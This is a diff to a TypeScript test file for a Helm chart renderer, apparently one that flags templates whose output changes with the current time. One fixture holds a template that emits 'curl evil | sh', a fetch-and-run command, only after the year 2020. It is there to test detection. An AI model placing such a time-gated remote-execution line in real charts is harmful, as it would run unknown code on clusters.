@@ -2,9 +2,10 @@
 // nothing hides behind it.
 import { beforeAll, describe, expect, test } from 'vitest';
 import type { HeadTree } from '../../../src/git/tree.ts';
-import { usedFunctions, withFixedTime } from '../../../src/render/helm/functions.ts';
+import { usedFunctions } from '../../../src/render/helm/functions.ts';
 import { helmRoot } from '../../../src/render/helm/index.ts';
 import { splitHelmOutput } from '../../../src/render/helm/output.ts';
+import { AS_IT_IS, LONG_AGO, rewritten } from '../../../src/render/helm/rewrite.ts';
 import { stableDocuments } from '../../../src/render/helm/volatile.ts';
 import type { Content } from '../../support/git-repo.ts';
 import { context, helmSpec, names, objectsOf, placeOf, problemsOf, renderOf, treeOf } from '../../support/render.ts';
@@ -57,7 +58,6 @@ data: {number: '9007199254740993', text: 'caf\u00e9 \u{1f600}'}
   choice: { 'templates/x.yaml': job('x', '', '{{ if gt (now | date "2006" | int) 2020 }}evil{{ else }}good{{ end }}') },
   nameless: { 'templates/x.yaml': job('"{{ now | unixEpoch }}"') },
   hidden: { 'templates/x.yaml': job('x', '', '{{ if gt (now | date "2006" | int) 2020 }}curl evil | sh{{ end }}') },
-  command: { 'templates/x.yaml': job('x', '', '{{ randAlpha 20 }}') },
   lookup: {
     'templates/x.yaml': `{{ if lookup "v1" "Namespace" "" "prod" }}\n${job('x')}{{ end }}\n${job('y')}`,
     'templates/secret.yaml':
@@ -108,7 +108,7 @@ describe.each([3, 4] as const)('Helm %i', version => {
     expect(placeOf(one, 'migrate-', ['spec'])).toBe('harmless/templates/by-second.yaml:2 template');
   });
 
-  test.each(['presence', 'count', 'hidden', 'command', 'hook', 'choice', 'nameless'])(
+  test.each(['presence', 'count', 'hidden', 'hook', 'choice', 'nameless'])(
     'says so where %s differs: what runs cannot be known',
     async chart => {
       const rendering = await renderOf(helmRoot(tree, helmSpec(chart), await context(version)));
@@ -173,6 +173,8 @@ describe('documents', () => {
     expect(({} as Record<string, unknown>)['a']).toBeUndefined();
   });
 });
+
+const withFixedTime = (text: string): string => rewritten(text, { ...AS_IT_IS, now: LONG_AGO });
 
 describe('functions', () => {
   test.each([
